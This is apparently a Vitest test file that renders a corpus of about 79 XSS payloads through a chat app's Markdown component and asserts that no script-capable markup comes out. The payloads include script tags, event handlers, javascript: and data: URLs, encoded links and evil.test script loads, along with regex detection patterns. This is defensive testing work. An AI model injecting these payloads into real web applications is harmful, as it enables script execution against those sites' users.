import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';

import { Markdown } from './markdown';

/**
 * Script injection through a message body: a corpus of XSS payloads (HTML, attribute and URL
 * tricks, Markdown link and image forms, encodings, mentions) rendered the way the message list
 * renders a body. None may produce an element that runs script: no <script>, no event-handler
 * attribute, no element that loads or embeds content, no javascript:/vbscript:/data: URL.
 * The count it prints is the "XSS payloads" figure in docs/SECURITY.md.
 */
const members = [
  { id: 'u-ana', name: 'Ana' },
  { id: 'u-ben', name: 'Ben <img src=x onerror=alert(1)>' },
];

const tags = [
  '<script>alert(1)</script>',
  '<script src=//evil.test/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.test/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<scr<script>ipt>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '<x onclick=alert(1)>click</x>',
];
const links = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](<javascript:alert(1)>)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[x](https://ok.test "title\\" onmouseover=\\"alert(1))',
  '[x](https://ok.test/"onmouseover="alert(1))',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.test/x.png" onerror="alert(1))',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '[![x](https://evil.test/i.png)](javascript:alert(1))',
  '[x](//evil.test)',
  '[x](file:///etc/passwd)',
  '[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript\u0000:alert(1))',
  'www.evil.test/"><script>alert(1)</script>',
  'https://evil.test/<img src=x onerror=alert(1)>',
];
const markdown = [
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))',
  '| a |\n| - |\n| <script>alert(1)</script> |',
  '**<img src=x onerror=alert(1)>**',
  '~~<svg onload=alert(1)>~~',
  '# <iframe src=javascript:alert(1)>',
  '[<img src=x onerror=alert(1)>](https://ok.test)',
  '@Ben <img src=x onerror=alert(1)>',
  '@<script>alert(1)</script>',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<<script>script>alert(1)<</script>/script>',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
];
const xssPayloads = [...tags, ...links, ...markdown];

/**
 * What may not appear in the rendered HTML, whatever the payload. Only real markup counts (a
 * payload shown as text is escaped: `&lt;script&gt;`), so each pattern looks inside a tag. The
 * task-list checkbox GFM renders (`<input type="checkbox" disabled>`) is the one input allowed.
 */
const forbidden: [string, RegExp][] = [
  ['a script element', /<script/i],
  ['an event-handler attribute', /<[^>]+\son[a-z]+\s*=/i],
  [
    'an element that loads or embeds content',
    /<(img|svg|math|iframe|object|embed|video|audio|source|link|meta|base|style|form|button|body|template|details|marquee|textarea)\b/i,
  ],
  ['an input other than the task checkbox', /<input(?![^>]*type="checkbox" disabled="")/i],
  [
    'a script URL',
    /<[^>]+\s(href|src|action|formaction|data)\s*=\s*["']?\s*(javascript|vbscript|data):/i,
  ],
  ['an inline style', /<[^>]+\sstyle\s*=/i],
];

/**
 * The app's own chrome around a code block: its Copy button with a lucide icon (an inline SVG of
 * rects and paths). Payload text is always escaped, so it can never produce this exact markup;
 * everything else in the render is still checked.
 */
const withoutChrome = (html: string) =>
  html.replace(
    /<button type="button" class="[^"]*"><svg [^>]*class="lucide lucide-copy"[^>]*>(?:<(?:rect|path) [^>]*><\/(?:rect|path)>)*<\/svg>Copy<\/button>/g,
    '',
  );

describe('XSS payloads in a message body', () => {
  it('renders none of them as anything that can run script', () => {
    const failures: string[] = [];
    for (const payload of xssPayloads)
      for (const meId of ['u-ana', null]) {
        const html = withoutChrome(
          renderToStaticMarkup(<Markdown body={payload} members={members} meId={meId} />),
        );
        for (const [what, pattern] of forbidden)
          if (pattern.test(html)) failures.push(`${JSON.stringify(payload)} → ${what}: ${html}`);
      }
    console.log(
      `xss: ${xssPayloads.length} payloads rendered (${xssPayloads.length * 2} renders), ${failures.length} produced script-capable markup`,
    );
    expect(failures).toEqual([]);
    expect(xssPayloads.length).toBeGreaterThanOrEqual(75);
  });

  it('the checks catch what they look for (a raw <img onerror> would fail)', () => {
    const html = '<p><img src="x" onerror="alert(1)"></p><a href="javascript:alert(1)">x</a>';
    expect(forbidden.filter(([, pattern]) => pattern.test(html)).map(([what]) => what)).toEqual([
      'an event-handler attribute',
      'an element that loads or embeds content',
      'a script URL',
    ]);
  });
});
